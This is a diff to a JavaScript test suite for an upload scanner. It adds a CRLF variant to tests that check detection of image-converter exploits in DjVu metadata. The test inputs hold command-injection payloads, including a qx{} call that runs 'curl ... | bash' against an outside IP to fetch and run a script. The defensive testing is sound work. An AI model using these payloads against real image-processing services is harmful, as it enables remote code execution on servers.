@@ -177,6 +177,8 @@ describe('image-converter exploits in uploads (ImageTragick, Ghostscript)', () =
     expect(uploaded('test.jpg', 'image/jpeg', djvu('(metadata\n\t(Copyright "\\\n" . qx{curl -s http://203.0.113.45/g.sh | bash} . \\\n" b ") )\n'))).toContain(
       'MaliciousUpload@upload',
     );
+    // ... also with the line break written CRLF
+    expect(uploaded('test.jpg', 'image/jpeg', djvu('(metadata (Copyright "\\\r\n" . qx{id} . \\\r\n" b ") )'))).toContain('MaliciousUpload@upload');
     expect(uploaded('scan.djvu', 'image/vnd.djvu', djvu('(metadata\n\t(Author "Ann Lee")\n\t(Title "Scan 3, p. 1")\n)\n'))).toEqual([]);
   });
 });
